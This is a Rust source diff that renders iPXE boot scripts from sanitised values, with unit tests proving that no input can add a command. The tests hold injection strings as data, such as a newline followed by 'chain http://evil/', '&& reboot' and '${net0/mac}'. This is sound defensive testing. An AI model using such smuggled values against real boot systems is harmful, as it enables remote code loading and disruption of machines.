@@ -1,0 +1,307 @@
+//! The scripts that iPXE fetches, as text.
+//!
+//! Idea: a script is rendered from checked values into a fixed frame. It tells the person at the rack's screen what
+//! happens and why, because "it didn't boot" with no reason is what they must never meet.
+//!
+//! Invariant: no value adds a line, a command or a variable. iPXE splits a line at `&&` and `||`, expands `${…}`,
+//! and knows quotes, backslashes and comments; text for people loses those characters, and what must stay exact
+//! (URLs, the kernel command line) is refused when it has them.
+//!
+//! Refused: a template engine. Three scripts of a dozen lines need none, and escaping would then be a habit instead
+//! of a property.
+
+use std::fmt::Write;
+
+/// The longest reason or name shown, in characters: two lines of a text console.
+const TEXT_CHARS_MAX: usize = 160;
+/// Longest kernel command line, in bytes: what Linux takes on x86 (COMMAND_LINE_SIZE).
+pub const COMMAND_LINE_BYTES_MAX: usize = 2048;
+/// Initrds of one script.
+pub const INITRDS_MAX: usize = 16;
+/// Times the deployer is tried before the script gives up.
+const ATTEMPTS: u32 = 5;
+
+/// What starts the deployer.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DeployerBoot {
+    /// Base of the boot HTTP service, such as `http://10.77.0.1:8081`.
+    pub http_base: String,
+    /// Path of the kernel under the base, with its leading slash.
+    pub kernel_path: String,
+    /// Paths of the initrds under the base, loaded in this order; at least one, at most [`INITRDS_MAX`].
+    pub initrd_paths: Vec<String>,
+    /// Kernel command line, without `initrd=`, which the script adds.
+    pub command_line: String,
+    /// What is shown while it loads, for example the node's name and what will be done to it.
+    pub title: String,
+}
+
+/// A value cannot stand in a script.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum ScriptError {
+    /// A URL or path has a character that is none of a plain URL.
+    #[error("{what} {value:?} is not a plain URL")]
+    Url {
+        /// Which value.
+        what: &'static str,
+        /// The value.
+        value: String,
+    },
+    /// A word of the command line would mean something to iPXE.
+    #[error("the kernel command line has the word {word:?}, which the boot script cannot carry")]
+    CommandLine {
+        /// The word.
+        word: String,
+    },
+    /// The command line is longer than the kernel takes.
+    #[error("the kernel command line is longer than {COMMAND_LINE_BYTES_MAX} bytes")]
+    CommandLineTooLong,
+    /// No initrd, or too many.
+    #[error("{count} initrds where 1 to {INITRDS_MAX} are possible")]
+    Initrds {
+        /// How many there were.
+        count: usize,
+    },
+}
+
+/// Text for people: printable ASCII without what iPXE interprets, in one line of bounded length.
+fn plain(text: &str) -> String {
+    let safe = |character: char| match character {
+        'a'..='z' | 'A'..='Z' | '0'..='9' => character,
+        ' ' | '.' | ',' | ':' | ';' | '_' | '-' | '+' | '/' | '=' | '(' | ')' | '@' | '%' | '!' | '?' => character,
+        '\'' | '"' | '`' => '.',
+        character if character.is_whitespace() => ' ',
+        _ => '?',
+    };
+    let words: Vec<String> = text
+        .chars()
+        .take(TEXT_CHARS_MAX)
+        .map(safe)
+        .collect::<String>()
+        .split(' ')
+        .map(str::to_owned)
+        .collect();
+    words
+        .into_iter()
+        .filter(|word| !word.is_empty())
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+fn url(what: &'static str, value: &str) -> Result<String, ScriptError> {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~:/?=%@,+[]&".contains(&byte);
+    if !value.is_empty() && value.bytes().all(is_plain) && value != "&&" {
+        Ok(value.to_owned())
+    } else {
+        Err(ScriptError::Url {
+            what,
+            value: value.to_owned(),
+        })
+    }
+}
+
+/// The command line with single spaces, or the first word that iPXE would not pass on as it is.
+fn command_line(value: &str) -> Result<String, ScriptError> {
+    let words: Vec<&str> = value.split_ascii_whitespace().collect();
+    let is_passed_on = |word: &str| {
+        let is_special = |byte: u8| !byte.is_ascii_graphic() || b"\"'\\`".contains(&byte);
+        !word.bytes().any(is_special) && !word.contains("${") && word != "&&" && word != "||" && !word.starts_with('#')
+    };
+    if let Some(word) = words.iter().find(|word| !is_passed_on(word)) {
+        return Err(ScriptError::CommandLine {
+            word: (*word).to_owned(),
+        });
+    }
+    let line = words.join(" ");
+    if line.len() > COMMAND_LINE_BYTES_MAX {
+        Err(ScriptError::CommandLineTooLong)
+    } else {
+        Ok(line)
+    }
+}
+
+/// Leaves iPXE so that the firmware takes the next boot device. BIOS firmware often starts over with the network
+/// instead, so there the first disk is started from here.
+const LEAVE: &str = "iseq ${platform} efi && exit 1 ||\nsanboot --no-describe --drive 0x80 || exit 1\n";
+
+/// The default answer: boot the local disk. `node_name` and `reason` are shown, made safe.
+pub fn boot_local(node_name: &str, reason: &str) -> String {
+    let (node_name, reason) = (plain(node_name), plain(reason));
+    format!("#!ipxe\necho Plumbline: {node_name}: booting the local disk: {reason}\nsleep 2\n{LEAVE}")
+}
+
+/// Tells a person why this machine is not helped, waits for them to read it, and goes on to the next boot device.
+pub fn refuse(reason: &str) -> String {
+    let reason = plain(reason);
+    format!("#!ipxe\necho Plumbline does not boot this machine: {reason}\nsleep 10\n{LEAVE}")
+}
+
+/// Starts the deployer; on failure says so and tries again a few times, then reboots: the server may be back by then,
+/// and decides anew.
+///
+/// Errors: a value that cannot stand in a script.
+pub fn deployer(boot: &DeployerBoot) -> Result<String, ScriptError> {
+    let base = url("boot HTTP base", boot.http_base.trim_end_matches('/'))?;
+    let kernel = url("kernel path", &boot.kernel_path)?;
+    if boot.initrd_paths.is_empty() || boot.initrd_paths.len() > INITRDS_MAX {
+        return Err(ScriptError::Initrds {
+            count: boot.initrd_paths.len(),
+        });
+    }
+    let line = command_line(&boot.command_line)?;
+    let title = plain(&boot.title);
+    // UEFI kernels find their initrds by these names; BIOS kernels ignore the words and take what was loaded.
+    let names: Vec<String> = (0..boot.initrd_paths.len())
+        .map(|index| format!("initrd{index}"))
+        .collect();
+    let words: Vec<String> = names.iter().map(|name| format!("initrd={name}")).collect();
+    let mut script = format!("#!ipxe\necho Plumbline: {title}\nset attempt:int32 0\n:again\nimgfree\n");
+    let kernel_words = [words.join(" "), line].join(" ");
+    let kernel_line = format!("kernel --name kernel {base}{kernel} {kernel_words}");
+    let _ = writeln!(script, "{} || goto failed", kernel_line.trim_end());
+    for (name, path) in names.iter().zip(&boot.initrd_paths) {
+        let path = url("initrd path", path)?;
+        let _ = writeln!(script, "initrd --name {name} {base}{path} || goto failed");
+    }
+    let _ = write!(
+        script,
+        "boot || goto failed\n\
+         :failed\n\
+         inc attempt\n\
+         iseq ${{attempt}} {ATTEMPTS} && goto give_up ||\n\
+         echo Plumbline: the deployer did not load from {base} (attempt ${{attempt}} of {ATTEMPTS}); trying again in 10 seconds\n\
+         sleep 10\n\
+         goto again\n\
+         :give_up\n\
+         echo Plumbline: the deployer did not load from {base} in {ATTEMPTS} attempts; rebooting in 30 seconds\n\
+         sleep 30\n\
+         reboot\n"
+    );
+    Ok(script)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn boot() -> DeployerBoot {
+        DeployerBoot {
+            http_base: "http://10.77.0.1:8081".to_owned(),
+            kernel_path: "/boot/v1/deployer/vmlinuz".to_owned(),
+            initrd_paths: vec!["/boot/v1/deployer/initrd".to_owned()],
+            command_line: "console=ttyS0 quiet".to_owned(),
+            title: "gpu-001".to_owned(),
+        }
+    }
+
+    /// The lines that do something, without what they print.
+    fn commands(script: &str) -> Vec<&str> {
+        script
+            .lines()
+            .map(|line| if line.starts_with("echo ") { "echo" } else { line })
+            .collect()
+    }
+
+    #[test]
+    fn no_reason_adds_a_command() {
+        let quiet = commands(&refuse("x")).join("\n");
+        for hostile in [
+            "x\nchain http://evil/",
+            "x\r\nreboot",
+            "x && reboot",
+            "x || reboot",
+            "${net0/mac}",
+            "\\",
+            "' && reboot '",
+            "\u{2028}reboot",
+            "#!ipxe",
+            &"long ".repeat(100),
+        ] {
+            let script = refuse(hostile);
+            assert_eq!(commands(&script).join("\n"), quiet, "{hostile:?}");
+            let shown = script.lines().nth(1).unwrap();
+            assert!(
+                shown.len() < 250 && !shown.contains(['&', '|', '$', '\\', '\'', '"', '#']),
+                "{shown}"
+            );
+            assert_eq!(
+                commands(&boot_local(hostile, hostile)).len(),
+                commands(&boot_local("x", "x")).len()
+            );
+        }
+        let title = DeployerBoot {
+            title: "x && reboot\nreboot".to_owned(),
+            ..boot()
+        };
+        assert_eq!(
+            commands(&deployer(&title).unwrap()),
+            commands(&deployer(&boot()).unwrap())
+        );
+    }
+
+    #[test]
+    fn a_command_line_that_ipxe_would_change_is_refused() {
+        for line in [
+            "a && reboot",
+            "a || b",
+            "x=${mac}",
+            "x=\"a b\"",
+            "x='a'",
+            "a\\",
+            "# comment",
+            "x=\u{e9}",
+            "a\u{7}",
+        ] {
+            let boot = DeployerBoot {
+                command_line: line.to_owned(),
+                ..boot()
+            };
+            assert!(
+                matches!(deployer(&boot), Err(ScriptError::CommandLine { .. })),
+                "{line:?}"
+            );
+        }
+        let lines = DeployerBoot {
+            command_line: "a=1\n  b=2&&c $d".to_owned(),
+            ..boot()
+        };
+        assert!(
+            deployer(&lines)
+                .unwrap()
+                .contains("initrd=initrd0 a=1 b=2&&c $d || goto failed\n")
+        );
+        let long = DeployerBoot {
+            command_line: "a".repeat(COMMAND_LINE_BYTES_MAX + 1),
+            ..boot()
+        };
+        assert_eq!(deployer(&long), Err(ScriptError::CommandLineTooLong));
+    }
+
+    #[test]
+    fn a_path_that_is_no_path_is_refused() {
+        for path in ["", "/a b", "/a\nreboot", "/${mac}", "/a||b", "/a;b#c"] {
+            let kernel = DeployerBoot {
+                kernel_path: path.to_owned(),
+                ..boot()
+            };
+            let initrd = DeployerBoot {
+                initrd_paths: vec![path.to_owned()],
+                ..boot()
+            };
+            let base = DeployerBoot {
+                http_base: path.to_owned(),
+                ..boot()
+            };
+            for boot in [kernel, initrd, base] {
+                assert!(matches!(deployer(&boot), Err(ScriptError::Url { .. })), "{path:?}");
+            }
+        }
+        for count in [0, INITRDS_MAX + 1] {
+            let boot = DeployerBoot {
+                initrd_paths: vec!["/i".to_owned(); count],
+                ..boot()
+            };
+            assert_eq!(deployer(&boot), Err(ScriptError::Initrds { count }));
+        }
+    }
+}
